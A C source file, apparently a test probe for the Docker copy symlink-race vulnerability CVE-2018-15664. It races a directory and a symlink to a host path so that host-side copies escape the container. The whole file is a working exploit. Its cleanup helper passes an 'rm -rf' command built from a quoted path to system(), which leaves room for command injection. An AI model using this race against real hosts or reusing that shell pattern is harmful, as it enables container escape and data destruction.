/* Attack probe (issue 11 row 5, CVE-2018-15664): while the host copies in or
 * out of the container, swap a real directory and a symlink that points at
 * a host path, as fast as the kernel allows.  A host-side copy that checks
 * a path and then walks it again by name follows the symlink on the host.
 *
 *   swap-race DIR LINK TARGET [SECONDS]
 *
 * Makes DIR (with DIR/secret holding "container-secret\n") and LINK ->
 * TARGET, prints "ready", then exchanges the two names with
 * renameat2(RENAME_EXCHANGE) in a loop for SECONDS (default 120) and prints
 * how many swaps it made. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

/* Removes whatever is at `path` that is not a `dir_wanted` directory (a file, a link, a tree). */
static void clear(const char *path, int dir_wanted) {
  struct stat st;
  if (lstat(path, &st) < 0) return;
  if (dir_wanted && S_ISDIR(st.st_mode)) return;
  if (!S_ISDIR(st.st_mode)) { unlink(path); return; }
  char cmd[8192];
  snprintf(cmd, sizeof cmd, "rm -rf '%s'", path);
  if (system(cmd) != 0) { /* best effort */ }
}

/* DIR as a directory holding secret, LINK as the symlink to TARGET. */
static int setup(const char *dir, const char *link, const char *target) {
  clear(dir, 1);
  if (mkdir(dir, 0755) < 0 && errno != EEXIST) { perror("mkdir"); return -1; }
  char secret[4096];
  snprintf(secret, sizeof secret, "%s/secret", dir);
  int fd = open(secret, O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW, 0644);
  if (fd < 0 || write(fd, "container-secret\n", 17) != 17) { perror("secret"); return -1; }
  close(fd);
  clear(link, 0);
  if (symlink(target, link) < 0 && errno != EEXIST) { perror("symlink"); return -1; }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 4) {
    fprintf(stderr, "usage: %s DIR LINK TARGET [SECONDS]\n", argv[0]);
    return 2;
  }
  const char *dir = argv[1], *link = argv[2], *target = argv[3];
  int seconds = argc > 4 ? atoi(argv[4]) : 120;
  if (setup(dir, link, target) < 0) return 1;
  printf("ready\n");
  fflush(stdout);
  time_t end = time(NULL) + seconds;
  unsigned long swaps = 0, repairs = 0;
  while (time(NULL) < end) {
    for (int i = 0; i < 1000; i++) {
      if (syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, link, RENAME_EXCHANGE) < 0) {
        /* the host replaced one of the names (a copy-in that made a file): make them again */
        if (setup(dir, link, target) < 0) return 1;
        repairs++;
      }
      swaps++;
    }
  }
  printf("swaps %lu repairs %lu\n", swaps, repairs);
  return 0;
}
